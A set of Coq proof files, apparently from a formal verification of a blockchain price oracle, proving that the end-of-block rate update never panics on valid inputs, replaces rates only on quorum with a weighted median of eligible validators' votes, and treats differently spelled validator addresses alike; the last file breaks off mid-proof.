Lemma pair_votes_in_range p st h pr v :
  domain p st h = true -> In v (pair_votes st pr) -> Z.abs (pv_rate v) <= DEC_LIMIT.
Proof.
  intros Hd Hin. destruct (pair_votes_in _ _ _ Hin) as [a [t [pw [Ha [Ht [_ [_ [Hr _]]]]]]]].
  apply domain_inv in Hd as [_ [_ [_ [_ [_ Hv]]]]]. rewrite Hr. apply (Hv a t Ha Ht).
Qed.

Lemma chop_round_abs_le d : Z.abs (chop_round d) <= Z.abs d / PREC + 1.
Proof.
  unfold chop_round. destruct (d <? 0) eqn:E.
  - apply Z.ltb_lt in E. pose proof (chop_round_pos_le (- d) ltac:(lia)). rewrite (Z.abs_neq d) by lia. lia.
  - apply Z.ltb_ge in E. pose proof (chop_round_pos_le d E). rewrite (Z.abs_eq d) by lia. lia.
Qed.

Lemma threshold_ok_in_domain p st h : domain p st h = true -> threshold_ok p (bonded_power st) = true.
Proof.
  intro Hd. apply domain_inv in Hd as [_ [Ht [_ [_ [Hb _]]]]].
  unfold threshold_ok, threshold_power, threshold_raw, round_int, mul_int.
  destruct const_5 as [C1 C2]. pose proof PREC_pos.
  assert (Hx : 0 <= p_threshold p * bonded_power st <= PREC * 2 ^ 63) by nia.
  apply andb_true_iff. split; [apply in_range_iff; lia|]. apply Z.ltb_lt.
  pose proof (chop_round_abs_le (p_threshold p * bonded_power st)).
  assert (Z.abs (p_threshold p * bonded_power st) / PREC <= 2 ^ 63).
  { rewrite Z.abs_eq by lia. apply Z.div_le_upper_bound; lia. }
  lia.
Qed.

Lemma tally_all_ok p st h :
  wf st -> domain p st h = true ->
  forallb (fun pm => tally_ok (p_reward_band p) (pair_votes st (fst pm)) (snd pm))
          (map (fun pr => (pr, wmedian true (pair_votes st pr))) (valid_pairs p st)) = true.
Proof.
  intros Hw Hd. destruct (domain_inv p st h Hd) as [_ [_ [_ [Hb _]]]].
  apply forallb_forall. intros [pr m] Hin. simpl.
  apply in_map_iff in Hin as [pr' [E Hv]]. injection E as -> <-.
  apply valid_pairs_iff in Hv.
  apply tally_ok_in_domain; [exact Hb | eapply median_in_range; eauto |].
  intros v Hin. eapply pair_votes_in_range; eauto.
Qed.

Theorem update_no_panic p st h : wf st -> domain p st h = true -> update true p st h <> Panic.
Proof.
  intros Hw Hd. unfold update.
  rewrite (threshold_ok_in_domain p st h Hd), andb_false_r.
  rewrite (tally_all_ok p st h Hw Hd). discriminate.
Qed.

(** full strength, for every input of the domain *)
Theorem end_block_holds p st h : wf st -> P p st h (end_block true p st h).
Proof.
  intro Hw. unfold P, end_block. destruct (is_period_last h (p_vote_period p)).
  - intro Hd. destruct (update true p st h) as [|rs evs] eqn:E.
    + exfalso. apply (update_no_panic p st h Hw Hd). exact E.
    + apply update_P; assumption.
  - exists (rates st). split; [reflexivity | tauto].
Qed.
