(** C10 — characterisation of the price update: replaced iff quorum, published rate is a weighted
    median that was submitted with positive power by an eligible validator, store contents, expiry. *)
From Coq Require Import ZArith List Bool Arith Lia Permutation.
Import ListNotations.
Require Import Nib.Lib.Dec Nib.C10.Model Nib.C10.Spec Nib.C10.ProofsMedian.
Local Open Scope Z_scope.
Local Arguments Z.mul : simpl never.
Local Arguments Z.add : simpl never.
Local Arguments Z.div : simpl never.

(** well-formed staking input: consensus power is never negative *)
Definition wf (st : state) : Prop := forall v, In v (validators st) -> 0 <= v_power v.

(* ---------------------------------------------------------------- sets of pairs *)

Lemma insert_nat_in x y l : In y (insert_nat x l) <-> y = x \/ In y l.
Proof.
  induction l as [|z l IH]; simpl.
  - split; [intros [H|[]]; left; auto | intros [H|[]]; left; auto].
  - destruct (Nat.ltb x z) eqn:E1; simpl.
    + split; [intros [H|H]; [left; auto | right; exact H] | intros [H|H]; [left; auto | right; exact H]].
    + destruct (Nat.eqb x z) eqn:E2; simpl.
      * apply Nat.eqb_eq in E2. subst z. split; [intro H; right; exact H | intros [H|H]; [left; auto | exact H]].
      * rewrite IH. split; [intros [H|[H|H]]; auto | intros [H|[H|H]]; auto].
Qed.

Lemma pair_set_in x l : In x (pair_set l) <-> In x l.
Proof.
  induction l as [|y l IH]; simpl; [tauto|].
  rewrite insert_nat_in, IH. split; [intros [H|H]; auto | intros [H|H]; auto].
Qed.

(* ---------------------------------------------------------------- provenance of votes *)

Lemma performances_in vs : forall fuel i pw,
  In (i, pw) (performances vs fuel) ->
  exists v, In v vs /\ v_id v = i /\ v_power v = pw /\ v_bonded v = true.
Proof.
  induction vs as [|a vs IH]; simpl; intros fuel i pw H; [contradiction|].
  destruct fuel as [|f]; [contradiction|].
  destruct (v_bonded a) eqn:E.
  - destruct H as [H|H].
    + injection H as <- <-. exists a. auto.
    + destruct (IH _ _ _ H) as [v [Hv Hr]]. exists v. split; [right; exact Hv | exact Hr].
  - destruct (IH _ _ _ H) as [v [Hv Hr]]. exists v. split; [right; exact Hv | exact Hr].
Qed.

Lemma perf_power_in perfs id pw : perf_power perfs id = Some pw -> In (id, pw) perfs.
Proof.
  induction perfs as [|[i q] perfs IH]; simpl; [discriminate|].
  destruct (Nat.eqb i id) eqn:E.
  - apply Nat.eqb_eq in E. intro H. injection H as <-. subst. left. reflexivity.
  - intro H. right. apply IH. exact H.
Qed.

(** every vote counted for a pair stems from a tuple of a Votes-store entry of an eligible
    (bonded, within MaxValidators) validator; its power is that validator's power if the rate is
    positive and 0 otherwise *)
Lemma pair_votes_in st pr v :
  In v (pair_votes st pr) ->
  exists a t pw, In a (votes st) /\ In t (a_tuples a) /\ perf_power (eligible st) (a_voter a) = Some pw /\
                 fst t = pr /\ pv_rate v = snd t /\ pv_voter v = a_voter a /\
                 pv_power v = (if 0 <? snd t then pw else 0).
Proof.
  unfold pair_votes, votes_for. intro H. apply in_map_iff in H as [[q w] [Hs Hf]]. simpl in Hs. subst w.
  apply filter_In in Hf as [Hf Hq]. simpl in Hq. apply Nat.eqb_eq in Hq. subst q.
  unfold flat_votes in Hf. apply in_flat_map in Hf as [a [Ha Hv]].
  unfold votes_of in Hv. destruct (perf_power (eligible st) (a_voter a)) as [pw|] eqn:E; [|contradiction].
  apply in_map_iff in Hv as [t [Ht Hin]]. injection Ht as Hp Hv. subst v. simpl.
  exists a, t, pw. repeat split; auto.
Qed.

Lemma pair_votes_nonneg st pr : wf st -> nonneg (pair_votes st pr).
Proof.
  intros Hw v Hv. destruct (pair_votes_in _ _ _ Hv) as [a [t [pw [_ [_ [Hp [_ [_ [_ Hpow]]]]]]]]].
  rewrite Hpow. destruct (0 <? snd t); [|lia].
  apply perf_power_in in Hp. apply performances_in in Hp as [x [Hx [_ [Hpw _]]]].
  rewrite <- Hpw. apply Hw. exact Hx.
Qed.

Lemma pair_votes_voted st pr : pair_votes st pr <> [] -> In pr (voted_pairs st).
Proof.
  unfold pair_votes, voted_pairs, votes_for. intro H. apply pair_set_in.
  destruct (filter (fun x => Nat.eqb (fst x) pr) (flat_votes (eligible st) (votes st))) as [|[q w] l] eqn:E; [contradiction H; reflexivity|].
  assert (Hin : In (q, w) (filter (fun x => Nat.eqb (fst x) pr) (flat_votes (eligible st) (votes st)))) by (rewrite E; left; reflexivity).
  apply filter_In in Hin as [Hin Hq]. simpl in Hq. apply Nat.eqb_eq in Hq. subst q.
  apply in_map_iff. exists (pr, w). split; [reflexivity | exact Hin].
Qed.

(* ---------------------------------------------------------------- quorum *)

Lemma passing_iff vs thr minv :
  passing vs thr minv = true <-> total_power vs <> 0 /\ thr <= total_power vs /\ minv <= num_valid vs.
Proof.
  unfold passing. rewrite !andb_true_iff, negb_true_iff, Z.eqb_neq, !Z.leb_le. tauto.
Qed.

Theorem valid_pairs_iff p st pr : In pr (valid_pairs p st) <-> quorum p st pr.
Proof.
  unfold valid_pairs, quorum. rewrite filter_In, andb_true_iff, memb_iff, passing_iff. split.
  - intros [_ [Hw Hp]]. tauto.
  - intros [Hw [Hz Hr]]. split; [|tauto].
    apply pair_votes_voted. intro E. rewrite E in Hz. simpl in Hz. apply Hz. reflexivity.
Qed.

(** the threshold the code applies is VoteThreshold * bonded power rounded half-to-even: it is
    within half a unit of power of the exact product *)
Lemma chop_round_pos_bounds d : 0 <= d -> 2 * Z.abs (chop_round_pos d * PREC - d) <= PREC.
Proof.
  intro Hd. unfold chop_round_pos.
  assert (HP : 0 < PREC) by (unfold PREC; lia).
  pose proof (Z.div_mod d PREC ltac:(lia)) as E. pose proof (Z.mod_pos_bound d PREC HP) as B.
  set (q := d / PREC) in *. set (r := d mod PREC) in *.
  assert (HH : 2 * HALF = PREC) by (unfold HALF, PREC; lia).
  destruct (r =? 0) eqn:E0; [apply Z.eqb_eq in E0; lia|].
  destruct (r <? HALF) eqn:E1; [apply Z.ltb_lt in E1; lia|]. apply Z.ltb_ge in E1.
  destruct (HALF <? r) eqn:E2; [apply Z.ltb_lt in E2; lia|]. apply Z.ltb_ge in E2.
  destruct (Z.even q); lia.
Qed.

Lemma chop_round_bounds d : 2 * Z.abs (chop_round d * PREC - d) <= PREC.
Proof.
  unfold chop_round. destruct (d <? 0) eqn:E.
  - apply Z.ltb_lt in E. pose proof (chop_round_pos_bounds (- d) ltac:(lia)). lia.
  - apply Z.ltb_ge in E. apply chop_round_pos_bounds. exact E.
Qed.

Theorem threshold_within_half_unit p B :
  2 * Z.abs (threshold_power p B * PREC - p_threshold p * B) <= PREC.
Proof. unfold threshold_power, threshold_raw, round_int, mul_int. apply chop_round_bounds. Qed.

(* ---------------------------------------------------------------- shape of the update *)

Lemma update_done fx p st h rs evs :
  update fx p st h = Done rs evs ->
  evs = map (fun pr => (pr, wmedian fx (pair_votes st pr))) (valid_pairs p st) /\
  rs = filter (fun r => negb (memb (r_pair r) (valid_pairs p st) || expired p r h)) (rates st)
       ++ map (fun pm => mkRate (fst pm) (snd pm) h) evs.
Proof.
  unfold update.
  destruct ((match voted_pairs st with [] => false | _ :: _ => true end) && negb (threshold_ok p (bonded_power st))); [discriminate|].
  destruct (forallb _ _); [|discriminate].
  intro H. injection H as <- <-. split; reflexivity.
Qed.

Lemma memb_false x l : memb x l = false <-> ~ In x l.
Proof. rewrite <- memb_iff. destruct (memb x l); split; intro H; congruence. Qed.

Lemma domain_inv p st h :
  domain p st h = true ->
  0 < p_vote_period p /\ 0 <= p_threshold p <= PREC /\ 0 <= p_expiration p /\ 0 <= p_reward_band p <= PREC /\
  0 <= bonded_power st < 2 ^ 63 /\
  (forall a t, In a (votes st) -> In t (a_tuples a) -> Z.abs (snd t) <= DEC_LIMIT).
Proof.
  unfold domain, params_valid, bonded_ok, rates_in_range.
  rewrite !andb_true_iff, !Z.leb_le, !Z.ltb_lt, !forallb_forall.
  intros [[[[[[[[H1 H2] H3] H4] H5] H6] H7] [[B1 B2] B3]] Hr].
  unfold THR_MIN in H2.
  split; [exact H1|]. split; [lia|]. split; [exact H7|]. split; [lia|]. split.
  - split; [unfold bonded_power; apply Z.div_pos; lia | exact B3].
  - intros a t Ha Ht. specialize (Hr a Ha). rewrite forallb_forall in Hr. specialize (Hr t Ht).
    unfold in_range in Hr. apply Z.leb_le. exact Hr.
Qed.

Lemma expired_iff p e h : 0 <= p_expiration p -> (expired p e h = true <-> expired_at p e h).
Proof.
  intro He. unfold expired, expired_at. rewrite andb_true_iff, !Z.leb_le. lia.
Qed.

Lemma expired_in_domain p st h e :
  domain p st h = true -> In e (rates st) -> (expired p e h = true <-> expired_at p e h).
Proof.
  intros Hd _. apply domain_inv in Hd as [_ [_ [He _]]]. apply expired_iff. exact He.
Qed.

Theorem update_P p st h rs evs :
  wf st -> domain p st h = true -> update true p st h = Done rs evs -> P_update p st h (Done rs evs).
Proof.
  intros Hw Hd Hu. apply update_done in Hu as [He Hr].
  exists rs, evs. split; [reflexivity|]. split; [|split].
  - intro pr. rewrite <- valid_pairs_iff. subst evs. rewrite map_map. simpl. rewrite map_id. tauto.
  - intros pr m Hin. split.
    + subst evs. apply in_map_iff in Hin as [pr' [E Hv]]. injection E as -> <-.
      apply valid_pairs_iff in Hv. destruct Hv as [_ [Hz _]].
      pose proof (pair_votes_nonneg st pr Hw) as Hn. pose proof (tp_nonneg _ Hn).
      apply wmedian_is_median; [exact Hn | lia].
    + subst rs. apply in_or_app. right. apply in_map_iff. exists (pr, m). split; [reflexivity | exact Hin].
  - intro e. subst rs. rewrite in_app_iff, filter_In, negb_true_iff, orb_false_iff, memb_false, valid_pairs_iff.
    split.
    + intros [[Hin [Hq Hx]] | Hin].
      * left. split; [exact Hin|]. split; [exact Hq|]. intro Hex. apply (expired_in_domain p st h e Hd Hin) in Hex. congruence.
      * right. apply in_map_iff in Hin as [[pr m] [E Hin]]. simpl in E. subst e. simpl. split; [exact Hin | reflexivity].
    + intros [[Hin [Hq Hx]] | [Hin Hc]].
      * left. split; [exact Hin|]. split; [exact Hq|].
        destruct (expired p e h) eqn:E; [|reflexivity]. apply (expired_in_domain p st h e Hd Hin) in E. contradiction.
      * right. apply in_map_iff. exists (r_pair e, r_rate e). split; [|exact Hin].
        destruct e as [a b c]. simpl in *. subst c. reflexivity.
Qed.

(** replaced iff quorum (no side condition: holds whenever the update completes) *)
Theorem replaced_iff_quorum p st h rs evs :
  update true p st h = Done rs evs ->
  forall pr, (In pr (map fst evs) <-> quorum p st pr) /\
             (quorum p st pr -> In (mkRate pr (wmedian true (pair_votes st pr)) h) rs /\
                                In (pr, wmedian true (pair_votes st pr)) evs) /\
             (~ quorum p st pr -> forall e, r_pair e = pr -> In e rs -> In e (rates st)).
Proof.
  intros Hu pr. apply update_done in Hu as [He Hr]. split; [|split].
  - rewrite <- valid_pairs_iff. subst evs. rewrite map_map. simpl. rewrite map_id. tauto.
  - intro Hq. apply valid_pairs_iff in Hq.
    assert (Hin : In (pr, wmedian true (pair_votes st pr)) evs).
    { subst evs. apply in_map_iff. exists pr. split; [reflexivity | exact Hq]. }
    split; [|exact Hin]. subst rs. apply in_or_app. right. apply in_map_iff.
    exists (pr, wmedian true (pair_votes st pr)). split; [reflexivity | exact Hin].
  - intros Hq e Ep Hin. subst rs. apply in_app_or in Hin as [Hin|Hin].
    + apply filter_In in Hin as [Hin _]. exact Hin.
    + exfalso. apply in_map_iff in Hin as [[q m] [E Hin]]. subst e evs. simpl in Ep. subst q.
      apply in_map_iff in Hin as [pr' [E Hv]]. injection E as -> _. apply valid_pairs_iff in Hv. contradiction.
Qed.

(** the published rate was submitted, with a positive rate, by an eligible validator of positive power *)
Theorem median_submitted p st pr :
  wf st -> quorum p st pr ->
  let m := wmedian true (pair_votes st pr) in
  0 < m /\
  exists a pw, In a (votes st) /\ In (pr, m) (a_tuples a) /\
               perf_power (eligible st) (a_voter a) = Some pw /\ 0 < pw.
Proof.
  intros Hw [_ [Hz _]] m.
  pose proof (pair_votes_nonneg st pr Hw) as Hn. pose proof (tp_nonneg _ Hn).
  destruct (wmedian_is_median (pair_votes st pr) Hn ltac:(lia)) as [[v [Hv [Hr Hp]]] _].
  destruct (pair_votes_in _ _ _ Hv) as [a [t [pw [Ha [Ht [Hpw [Hf [Hrt [_ Hpow]]]]]]]]].
  fold m in Hr. destruct (0 <? snd t) eqn:E; [|lia]. apply Z.ltb_lt in E.
  split; [lia|]. exists a, pw. repeat split; auto; [|lia].
  destruct t as [tp tr]. simpl in *. subst tp. replace m with tr by lia. exact Ht.
Qed.

(* ---------------------------------------------------------------- whole EndBlocker step *)

Theorem end_block_P p st h :
  wf st -> end_block true p st h <> Panic -> P p st h (end_block true p st h).
Proof.
  intros Hw Hnp. unfold P, end_block in *. destruct (is_period_last h (p_vote_period p)).
  - intro Hd. destruct (update true p st h) as [|rs evs] eqn:E; [contradiction Hnp; reflexivity|].
    apply update_P; assumption.
  - exists (rates st). split; [reflexivity | tauto].
Qed.
