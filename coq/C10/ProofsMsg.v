(** C10 — message level: votes enter through the message server with the validator / feeder written as strings
    in any accepted spelling.  The stored Voter string is canonical, so the tally keyed by the stored string is the
    tally keyed by validator identity; message-level histories satisfy the property w.r.t. the votes cast by
    identity; the outcome does not depend on how the address fields of the messages are spelled.  The variant that
    stores the raw message string ([fc = false]) is refuted. *)
From Coq Require Import ZArith List Bool Arith Lia.
Import ListNotations.
Require Import Nib.Lib.Dec Nib.C10.Model Nib.C10.Spec Nib.C10.ProofsMedian Nib.C10.ProofsUpdate Nib.C10.ProofsPanic
               Nib.C10.ProofsHist.
Local Open Scope Z_scope.

(* ---------------------------------------------------------------- canonical stores *)

Definition canonical (sv : svote) : Prop := sv_voter sv = canon (sv_key sv).
Definition canonical_store (s : mstate) : Prop := Forall canonical (ms_votes s).

(** with canonical Voter strings the lookup by stored string is the lookup by validator identity *)
Lemma votes_seen_canonical l : Forall canonical l -> votes_seen l = map to_avote l.
Proof.
  induction 1 as [|sv l Hc _ IH]; [reflexivity|].
  unfold votes_seen in *. cbn [flat_map map]. rewrite IH. unfold canonical in Hc. rewrite Hc. reflexivity.
Qed.

Lemma put_svote_map a l : map to_avote (put_svote a l) = put_vote (to_avote a) (map to_avote l).
Proof.
  induction l as [|b l IH]; [reflexivity|]. cbn [put_svote map put_vote].
  change (a_voter (to_avote a)) with (sv_key a). change (a_voter (to_avote b)) with (sv_key b).
  destruct (Nat.ltb (sv_key a) (sv_key b)); [reflexivity|].
  destruct (Nat.eqb (sv_key a) (sv_key b)); [reflexivity|]. cbn [map]. rewrite IH. reflexivity.
Qed.

Lemma put_svote_canonical a l : canonical a -> Forall canonical l -> Forall canonical (put_svote a l).
Proof.
  intros Ha. induction 1 as [|b l Hb Hl IH]; [repeat constructor; exact Ha|]. cbn [put_svote].
  destruct (Nat.ltb (sv_key a) (sv_key b)); [repeat constructor; assumption|].
  destruct (Nat.eqb (sv_key a) (sv_key b)); constructor; assumption.
Qed.

Lemma put_sprev_map a l : map to_prevote (put_sprev a l) = put_prevote (to_prevote a) (map to_prevote l).
Proof.
  induction l as [|b l IH]; [reflexivity|]. cbn [put_sprev map put_prevote].
  change (fst (to_prevote a)) with (sp_key a). change (fst (to_prevote b)) with (sp_key b).
  destruct (Nat.ltb (sp_key a) (sp_key b)); [reflexivity|].
  destruct (Nat.eqb (sp_key a) (sp_key b)); [reflexivity|]. cbn [map]. rewrite IH. reflexivity.
Qed.

Lemma del_sprev_map v l : map to_prevote (del_sprev v l) = del_prevote v (map to_prevote l).
Proof.
  unfold del_sprev, del_prevote. induction l as [|b l IH]; [reflexivity|]. cbn [filter map].
  change (fst (to_prevote b)) with (sp_key b).
  destruct (negb (Nat.eqb (sp_key b) v)); cbn [map]; rewrite IH; reflexivity.
Qed.

Lemma keep_sprev_map p h l :
  map to_prevote (filter (keep_sprev p h) l) = filter (keep_prevote p h) (map to_prevote l).
Proof.
  induction l as [|b l IH]; [reflexivity|]. cbn [filter map].
  change (keep_prevote p h (to_prevote b)) with (keep_sprev p h b).
  destruct (keep_sprev p h b); cbn [map]; rewrite IH; reflexivity.
Qed.

(* ---------------------------------------------------------------- one vote per (validator, pair) *)

Lemma filter_all_true {A} (f : A -> bool) l : (forall x, In x l -> f x = true) -> filter f l = l.
Proof.
  induction l as [|a l IH]; intro H; [reflexivity|]. cbn [filter]. rewrite (H a (or_introl eq_refl)).
  rewrite IH; [reflexivity|]. intros x Hx. apply H. right. exact Hx.
Qed.

(** a string the current parser accepts names every pair once: the specification's keying by (validator, pair) keeps it as is *)
Lemma dedup_nodup ts : nodup_pairs ts = true -> dedup_pairs ts = ts.
Proof.
  induction ts as [|t r IH]; [reflexivity|]. cbn [nodup_pairs dedup_pairs]. intro H.
  apply andb_true_iff in H as [H1 H2]. rewrite (IH H2). f_equal. apply filter_all_true.
  intros u Hu. apply negb_true_iff in H1. apply negb_true_iff.
  destruct (Nat.eqb (fst u) (fst t)) eqn:E; [|reflexivity]. exfalso.
  assert (Hx : existsb (fun u0 => Nat.eqb (fst u0) (fst t)) r = true) by (apply existsb_exists; exists u; split; assumption).
  rewrite Hx in H1. discriminate.
Qed.

Lemma tuples_ok_nodup ts : tuples_ok_gen true ts = true -> nodup_pairs ts = true.
Proof. unfold tuples_ok_gen. intro H. apply andb_true_iff in H as [H _]. apply andb_true_iff in H as [_ H]. exact H. Qed.

(** the Votes store: keys strictly increasing (one entry per validator), every entry names each pair once *)
Fixpoint keys_sorted (l : list svote) : Prop :=
  match l with
  | [] => True
  | a :: r => Forall (fun b => (sv_key a < sv_key b)%nat) r /\ keys_sorted r
  end.
Definition single_pairs (l : list svote) : Prop := Forall (fun sv => nodup_pairs (sv_tuples sv) = true) l.
Definition well_keyed (s : mstate) : Prop := keys_sorted (ms_votes s) /\ single_pairs (ms_votes s).

Lemma put_svote_keys a l : keys_sorted l -> keys_sorted (put_svote a l).
Proof.
  induction l as [|b l IH]; intro H; [split; constructor|]. cbn [put_svote]. destruct H as [Hb Hl].
  destruct (Nat.ltb (sv_key a) (sv_key b)) eqn:E1.
  - apply Nat.ltb_lt in E1. split; [|split; assumption]. constructor; [exact E1|].
    eapply Forall_impl; [|exact Hb]. intros c Hc. simpl in Hc. lia.
  - destruct (Nat.eqb (sv_key a) (sv_key b)) eqn:E2.
    + apply Nat.eqb_eq in E2. split; [|exact Hl]. rewrite E2. exact Hb.
    + apply Nat.ltb_ge in E1. apply Nat.eqb_neq in E2. split; [|apply IH; exact Hl].
      assert (Hin : forall c, In c (put_svote a l) -> c = a \/ In c l).
      { clear. induction l as [|d l IH]; intros c Hc; cbn [put_svote] in Hc.
        - destruct Hc as [<-|[]]. left. reflexivity.
        - destruct (Nat.ltb (sv_key a) (sv_key d)); [destruct Hc as [<-|Hc]; [left; reflexivity | right; exact Hc]|].
          destruct (Nat.eqb (sv_key a) (sv_key d)).
          + destruct Hc as [<-|Hc]; [left; reflexivity | right; right; exact Hc].
          + destruct Hc as [<-|Hc]; [right; left; reflexivity|]. destruct (IH c Hc) as [->|H]; [left; reflexivity | right; right; exact H]. }
      apply Forall_forall. intros c Hc. destruct (Hin c Hc) as [->|Hc']; [lia|].
      rewrite Forall_forall in Hb. apply Hb. exact Hc'.
Qed.

Lemma put_svote_single a l : nodup_pairs (sv_tuples a) = true -> single_pairs l -> single_pairs (put_svote a l).
Proof.
  intros Ha. induction 1 as [|b l Hb Hl IH]; [repeat constructor; exact Ha|]. cbn [put_svote].
  destruct (Nat.ltb (sv_key a) (sv_key b)); [repeat constructor; assumption|].
  destruct (Nat.eqb (sv_key a) (sv_key b)); constructor; assumption.
Qed.

(** the message server with the all-pairs duplicate test keeps the store well keyed *)
Lemma deliver_well_keyed fc p wl h s m s1 a :
  deliver fc true p wl h s m = (s1, a) -> well_keyed s -> well_keyed s1.
Proof.
  intros H Hw. destruct m as [m|m|m]; cbn [deliver] in H.
  - unfold deliver_prevote in H.
    destruct (decode (pm_validator m)) as [v|]; [destruct (decode (pm_feeder m)) as [f|]|]; try (injection H as <- <-; exact Hw).
    destruct (feeder_ok (ms_feeders s) v f && pm_bonded m); injection H as <- <-; exact Hw.
  - unfold deliver_vote in H.
    destruct (decode (vm_validator m)) as [v|]; [destruct (decode (vm_feeder m)) as [f|]|]; try (injection H as <- <-; exact Hw).
    destruct (find_sprev v (ms_prevotes s)) as [pv|]; [|injection H as <- <-; exact Hw].
    match type of H with (if ?c then _ else _) = _ => destruct c eqn:Ec end; injection H as <- <-; [|exact Hw].
    apply andb_true_iff in Ec as [Ec _]. apply andb_true_iff in Ec as [Ec _]. apply andb_true_iff in Ec as [_ Ec].
    apply tuples_ok_nodup in Ec. destruct Hw as [Hk Hs]. split; cbn [ms_votes].
    + apply put_svote_keys. exact Hk.
    + apply put_svote_single; [exact Ec | exact Hs].
  - unfold deliver_delegate in H.
    destruct (decode (dm_operator m)) as [v|]; [destruct (decode (dm_delegate m)) as [d|]|]; try (injection H as <- <-; exact Hw).
    destruct (dm_isval m); injection H as <- <-; exact Hw.
Qed.

Lemma deliver_all_well_keyed fc p wl h : forall ms s s1 acc,
  deliver_all fc true p wl h s ms = (s1, acc) -> well_keyed s -> well_keyed s1.
Proof.
  induction ms as [|m ms IH]; intros s s1 acc H Hw; [injection H as <- <-; exact Hw|].
  cbn [deliver_all] in H. destruct (deliver fc true p wl h s m) as [s' a] eqn:E.
  destruct (deliver_all fc true p wl h s' ms) as [s2 acc'] eqn:E2. injection H as <- <-.
  exact (IH _ _ _ E2 (deliver_well_keyed _ _ _ _ _ _ _ _ E Hw)).
Qed.

(** ... and then the tally never sees two votes of one validator for one pair: the voters of [pair_votes] are pairwise
    distinct, so every validator's power enters [total_power] once and [num_valid] counts distinct validators *)
Definition avotes_sorted (vs : list avote) : Prop :=
  (fix go (l : list avote) : Prop :=
     match l with
     | [] => True
     | a :: r => Forall (fun b => (a_voter a < a_voter b)%nat) r /\ go r
     end) vs.

Lemma votes_for_app pr l1 l2 : votes_for pr (l1 ++ l2) = votes_for pr l1 ++ votes_for pr l2.
Proof. unfold votes_for. rewrite filter_app, map_app. reflexivity. Qed.

Lemma votes_of_voters perfs a pr v :
  In v (map pv_voter (votes_for pr (votes_of perfs a))) -> v = a_voter a.
Proof.
  unfold votes_of, votes_for. destruct (perf_power perfs (a_voter a)) as [pw|]; [|intros []].
  intro H. apply in_map_iff in H as [x [<- Hx]]. apply in_map_iff in Hx as [y [<- Hy]].
  apply filter_In in Hy as [Hy _]. apply in_map_iff in Hy as [t [<- _]]. reflexivity.
Qed.

Lemma votes_of_single perfs a pr :
  nodup_pairs (a_tuples a) = true -> (length (votes_for pr (votes_of perfs a)) <= 1)%nat.
Proof.
  unfold votes_of, votes_for. destruct (perf_power perfs (a_voter a)) as [pw|]; [|simpl; lia].
  rewrite map_length. generalize (a_tuples a). induction l as [|t r IH]; [simpl; lia|].
  cbn [nodup_pairs map filter fst]. intro H. apply andb_true_iff in H as [H1 H2].
  destruct (Nat.eqb (fst t) pr) eqn:E; [|apply IH; exact H2].
  cbn [length]. apply Nat.eqb_eq in E.
  assert (Hz : filter (fun x : nat * pvote => Nat.eqb (fst x) pr)
                 (map (fun t0 : nat * Z => (fst t0, mkPV (snd t0) (a_voter a) (if 0 <? snd t0 then pw else 0))) r) = []).
  { apply negb_true_iff in H1. clear IH H2. induction r as [|u r IHr]; [reflexivity|].
    cbn [existsb] in H1. apply orb_false_iff in H1 as [Hu Hr]. cbn [map filter fst].
    rewrite E in Hu. rewrite Hu. apply IHr. exact Hr. }
  rewrite Hz. simpl. lia.
Qed.

Lemma flat_votes_voters perfs pr : forall vs v,
  In v (map pv_voter (votes_for pr (flat_votes perfs vs))) -> exists a, In a vs /\ a_voter a = v.
Proof.
  induction vs as [|a vs IH]; intros v H; [destruct H|].
  unfold flat_votes in H. cbn [flat_map] in H. rewrite votes_for_app, map_app in H. apply in_app_or in H as [H|H].
  - exists a. split; [left; reflexivity | symmetry; exact (votes_of_voters _ _ _ _ H)].
  - destruct (IH v H) as [b [Hb Hv]]. exists b. split; [right; exact Hb | exact Hv].
Qed.

Lemma pair_voters_distinct perfs pr : forall vs,
  avotes_sorted vs -> Forall (fun a => nodup_pairs (a_tuples a) = true) vs ->
  NoDup (map pv_voter (votes_for pr (flat_votes perfs vs))).
Proof.
  induction vs as [|a vs IH]; intros Hs Hn; [constructor|].
  destruct Hs as [Ha Hs]. inversion Hn as [|? ? Hna Hnr]; subst.
  unfold flat_votes. cbn [flat_map]. rewrite votes_for_app, map_app.
  pose proof (votes_of_single perfs a pr Hna) as Hl.
  pose proof (votes_of_voters perfs a pr) as Hv.
  destruct (votes_for pr (votes_of perfs a)) as [|x [|y l]]; [exact (IH Hs Hnr) | | simpl in Hl; lia].
  cbn [map app]. constructor; [|exact (IH Hs Hnr)].
  intro Hin. destruct (flat_votes_voters perfs pr vs _ Hin) as [b [Hb Hbv]].
  rewrite Forall_forall in Ha. specialize (Ha b Hb). specialize (Hv (pv_voter x) (or_introl eq_refl)). lia.
Qed.

Lemma to_avote_sorted l : keys_sorted l -> avotes_sorted (map to_avote l).
Proof.
  induction l as [|a l IH]; intro H; [exact I|]. destruct H as [Ha Hl]. split; [|apply IH; exact Hl].
  apply Forall_forall. intros b Hb. apply in_map_iff in Hb as [c [<- Hc]]. rewrite Forall_forall in Ha. exact (Ha c Hc).
Qed.

(* ---------------------------------------------------------------- delivery vs the specification's tracking *)

(** the current message server ([fc = true]): an accepted message has a decodable validator field, the store
    stays canonical, and the store read by key is what the specification tracks from the accept flags *)
Lemma deliver_track p wl h s m s1 a :
  deliver true true p wl h s m = (s1, a) -> canonical_store s ->
  canonical_store s1 /\ ms_rates s1 = ms_rates s /\
  forall r cast pvs, cast = map to_avote (ms_votes s) -> pvs = map to_prevote (ms_prevotes s) ->
    track h cast pvs ((m, a) :: r) =
    track h (map to_avote (ms_votes s1)) (map to_prevote (ms_prevotes s1)) r.
Proof.
  intros H Hc. destruct m as [m|m|m]; cbn [deliver] in H.
  - unfold deliver_prevote in H.
    destruct (decode (pm_validator m)) as [v|] eqn:Ev; [destruct (decode (pm_feeder m)) as [f|]|].
    + destruct (feeder_ok (ms_feeders s) v f && pm_bonded m); injection H as <- <-.
      * split; [exact Hc|]. split; [reflexivity|]. intros r cast pvs -> ->. cbn [track]. rewrite Ev.
        cbn [ms_votes ms_prevotes]. rewrite put_sprev_map. reflexivity.
      * split; [exact Hc|]. split; [reflexivity|]. intros r cast pvs -> ->. reflexivity.
    + injection H as <- <-. split; [exact Hc|]. split; [reflexivity|]. intros r cast pvs -> ->. reflexivity.
    + injection H as <- <-. split; [exact Hc|]. split; [reflexivity|]. intros r cast pvs -> ->. reflexivity.
  - unfold deliver_vote in H.
    destruct (decode (vm_validator m)) as [v|] eqn:Ev; [destruct (decode (vm_feeder m)) as [f|]|].
    + destruct (find_sprev v (ms_prevotes s)) as [pv|].
      * match type of H with (if ?c then _ else _) = _ => destruct c eqn:Ec end; injection H as <- <-.
